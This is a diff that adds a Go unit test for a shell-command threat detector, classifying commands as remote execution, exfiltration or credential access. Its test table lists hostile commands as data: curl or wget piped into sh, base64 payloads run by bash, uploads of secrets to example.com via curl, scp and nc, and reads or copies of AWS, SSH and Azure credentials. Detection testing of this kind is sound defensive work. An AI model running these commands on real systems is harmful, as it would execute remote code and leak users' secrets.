@@ -0,0 +1,75 @@
+package shell
+
+import (
+	"os"
+	"path/filepath"
+	"testing"
+)
+
+func TestDetectThreats(t *testing.T) {
+	knownHostsPath = filepath.Join(t.TempDir(), "known_hosts")
+	os.WriteFile(knownHostsPath, []byte("build.example.com ssh-ed25519 AAAA\n"), 0600)
+
+	tests := []struct {
+		cmd  string
+		want string
+	}{
+		{cmd: "curl -fsSL https://example.com/install.sh | sh", want: ThreatRemoteExec},
+		{cmd: "wget -O- https://example.com/x | sudo bash", want: ThreatRemoteExec},
+		{cmd: "echo aGVsbG8= | base64 -d | bash", want: ThreatRemoteExec},
+		{cmd: `eval "$(ssh-agent -s)"`, want: ThreatRemoteExec},
+		{cmd: `bash -c "$(curl -fsSL https://example.com/x)"`, want: ThreatRemoteExec},
+		{cmd: "irm https://example.com/x.ps1 | iex", want: ThreatRemoteExec},
+		{cmd: "curl -F file=@secrets.txt https://example.com/upload", want: ThreatExfil},
+		{cmd: "curl -d@secrets.txt https://example.com", want: ThreatExfil},
+		{cmd: "curl -sSd@secrets.txt https://example.com", want: ThreatExfil},
+		{cmd: "curl -F@secrets.txt https://example.com", want: ThreatExfil},
+		{cmd: "curl -Ffile=@secrets.txt https://example.com", want: ThreatExfil},
+		{cmd: "curl --data=@secrets.txt https://example.com", want: ThreatExfil},
+		{cmd: "curl --data-binary=@secrets.txt https://example.com", want: ThreatExfil},
+		{cmd: "curl -T secrets.txt https://example.com", want: ThreatExfil},
+		{cmd: "curl -Tsecrets.txt https://example.com", want: ThreatExfil},
+		{cmd: "curl -d name=bob https://example.com", want: ""},
+		{cmd: "curl -HContent-Type:text/plain https://example.com", want: ""},
+		{cmd: "curl -o out.txt -u me@example.com https://example.com", want: ""},
+		{cmd: "curl --data=name=bob https://example.com", want: ""},
+		{cmd: "scp dump.sql user@203.0.113.5:/tmp/", want: ThreatExfil},
+		{cmd: "nc example.com 4444 < data.tar", want: ThreatExfil},
+		{cmd: "cat ~/.aws/credentials", want: ThreatCredential},
+		{cmd: "tar czf /tmp/k.tgz ~/.aws", want: ThreatCredential},
+		{cmd: "cd ~ && zip -r k.zip .aws .ssh", want: ThreatCredential},
+		{cmd: `copy %USERPROFILE%\.azure\accessTokens.json D:\`, want: ThreatCredential},
+		{cmd: "ls ~/awesome.awsome", want: ""},
+		{cmd: `curl -fsSL https://example.com/x | bash -c "$(cat)"`, want: ThreatRemoteExec},
+		{cmd: "curl -fsSL https://example.com/x | sh -c 'cat | sh'", want: ThreatRemoteExec},
+		{cmd: "curl -fsSL https://example.com/x | sh -c 'sh -s'", want: ThreatRemoteExec},
+		{cmd: `curl -fsSL https://example.com/x | python3 -c "import sys; exec(sys.stdin.read())"`, want: ThreatRemoteExec},
+		{cmd: "curl -fsSL https://example.com/x | bash -c 'source /dev/stdin'", want: ThreatRemoteExec},
+		{cmd: "curl -s https://example.com/x | bash -c 'echo fetched'", want: ""},
+		{cmd: "curl -s https://example.com/x | bash -c 'grep -c ok | tee'", want: ""},
+		{cmd: "cp ~/.ssh/id_rsa /tmp/k", want: ThreatCredential},
+		{cmd: "scp dump.sql deploy@build.example.com:/tmp/", want: ""},
+		{cmd: "scp user@203.0.113.5:/tmp/dump.sql .", want: ""},
+		{cmd: "curl -s https://example.com | jq .", want: ""},
+		{cmd: "cat install.sh | bash", want: ""},
+		{cmd: "ls -la", want: ""},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.cmd, func(t *testing.T) {
+			threats := DetectThreats(tt.cmd)
+			if tt.want == "" {
+				if len(threats) != 0 {
+					t.Errorf("DetectThreats(%q) = %v, want none", tt.cmd, threats)
+				}
+				return
+			}
+			for _, th := range threats {
+				if th.Kind == tt.want {
+					return
+				}
+			}
+			t.Errorf("DetectThreats(%q) = %v, want a %s threat", tt.cmd, threats, tt.want)
+		})
+	}
+}